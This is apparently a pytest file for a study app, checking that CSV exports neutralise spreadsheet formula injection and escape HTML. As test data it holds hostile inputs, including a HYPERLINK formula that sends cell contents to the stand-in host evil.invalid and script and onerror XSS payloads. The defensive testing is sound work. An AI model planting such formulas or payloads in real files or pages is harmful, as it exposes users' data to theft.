"""Formula injection: no CSV we write (the review log, ``export --csv``, a class set's answer key)
holds a cell a spreadsheet would run as a formula; plain numbers, negative ones included, stay
numbers. And ``export --csv`` escapes HTML as the .apkg does."""

from __future__ import annotations

import csv
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from studyapp.cli import main
from studyapp.core.review_log import Review
from studyapp.core.scheduler import ItemState
from studyapp.report.csv_safe import cell
from studyapp.store.progress import Store

HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "\0=1", "-0.5 0.2", "-inf", "=1", "-"]
NUMBERS = ["-0.5", "+3", "-1e-3", "-12", "0.25", "-.5", "1E+5", "-3."]
PLAIN = ["loss: -1; W: [1, 2]", "[[-1, 2], [3, 4]]", "a=b", "ok -1", "", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_is_prefixed(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_plain_numbers_and_other_text_are_kept(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("value", [-3, -0.5, None, 0])
def test_values_that_are_not_text_are_kept(value: object) -> None:
    assert cell(value) is value


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:  # a CR inside a cell stays a CR
        return list(csv.reader(handle))


def test_review_log_answers_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    now = datetime(2025, 6, 1, 12, tzinfo=UTC)
    monkeypatch.setenv("STUDYAPP_NOW", now.isoformat())
    db = tmp_path / "p.sqlite3"
    store = Store(db)
    answers = [*HOSTILE, *NUMBERS]
    for n, answer in enumerate(answers):
        item = ItemState(f"=item{n}", "-deck", "problem")
        store.record(Review(item.item_id, now - timedelta(hours=n + 1), 1, 5000, "practice", seed=1,
                            answer=answer, mistake="@tag"), item, None)
    store.close()
    out = tmp_path / "log.csv"
    assert main(["report", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0, capsys.readouterr()
    head, *body = read(out)
    col = {name: head.index(name) for name in ("item_id", "answer", "mistake")}
    got = {row[col["answer"]] for row in body}
    assert got == {"'" + a for a in HOSTILE} | set(NUMBERS)
    assert {row[col["item_id"]][:2] for row in body} == {"'="}
    assert {row[col["mistake"]] for row in body} == {"'@tag"}


DECK_ID = "hostile"
DECK = """\
id: hostile
title: {en: Hostile, zh: 恶意}
cards:
  - id: h.formula
    type: basic
    front: {en: '=HYPERLINK("http://evil.invalid","x")', zh: "@SUM(A1)"}
    back: {en: "-0.5", zh: "-1+2"}
  - id: h.html
    type: basic
    front: {en: "<script>alert(1)</script> & <b>bold</b>", zh: "x < y"}
    back: {en: "<img src=x onerror=alert(1)>", zh: "a &amp; b"}
    explanation: {en: "Use `<br>` for a break.", zh: 换行。}
  - id: h.cloze
    type: cloze
    text: {en: "=A1 is {{<i>}}.", zh: "=A1 是 {{<i>}}。"}
"""


def export_csv(tmp_path: Path) -> dict[str, dict[str, str]]:
    (tmp_path / "hostile.yaml").write_text(DECK, encoding="utf-8")
    out = tmp_path / "cards.csv"
    from studyapp.cli import build_parser
    from studyapp.commands.export import run

    args = build_parser().parse_args(["export", "--csv", str(out), "--lang", "both", "--content",
                                      str(tmp_path / "hostile.yaml"), "--deck", DECK_ID])
    assert run(args) == 0
    head, *body = read(out)
    return {row[0]: dict(zip(head, row, strict=True)) for row in body}


def test_exported_cards_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = export_csv(tmp_path)
    formula = table["h.formula"]
    assert formula["front_en"] == '\'=HYPERLINK("http://evil.invalid","x")'
    assert formula["front_zh"] == "'@SUM(A1)"
    assert formula["back_en"] == "-0.5" and formula["back_zh"] == "'-1+2"
    assert table["h.cloze"]["front_en"] == "'=A1 is {{c1::&lt;i&gt;}}."


def test_exported_csv_escapes_html_as_the_apkg_does(tmp_path: Path) -> None:
    card = export_csv(tmp_path)["h.html"]
    assert card["front_en"] == "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;"
    assert card["front_zh"] == "x &lt; y"
    assert card["back_en"] == "&lt;img src=x onerror=alert(1)&gt;\n\nUse `&lt;br&gt;` for a break."
    assert card["back_zh"] == "a &amp;amp; b\n\n换行。"  # what was written is what Anki shows
    assert not any("<" in value for value in card.values())


def test_answer_key_keeps_negative_numbers_and_neutralises_names(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    roster = tmp_path / "names.txt"
    roster.write_text("=1+1\n-Ann\n@Bo\n", encoding="utf-8")
    (tmp_path / "neg.yaml").write_text(textwrap.dedent("""\
        id: neg
        title: {en: Negative, zh: 负数}
        problems:
          - id: neg.grad
            kind: activation
            difficulty: 1
        """), encoding="utf-8")
    folder = tmp_path / "class"
    code = main(["generate", "--roster", str(roster), "--count", "20", "--seed", "3",
                 "--content", str(tmp_path / "neg.yaml"), "--topic", "neg", "--out", str(folder)])
    assert code == 0, capsys.readouterr().err
    head, *body = read(folder / "answer-key.csv")
    names = {row[head.index("student")] for row in body}
    assert names == {"'=1+1", "'-Ann", "'@Bo"}
    answers = [row[head.index("answer")] for row in body]
    assert all(not a.startswith(("=", "+", "@")) for a in answers)
    assert any(a.startswith("-") for a in answers), answers  # plain negative numbers, kept
    assert all(cell(a) == a for a in answers)
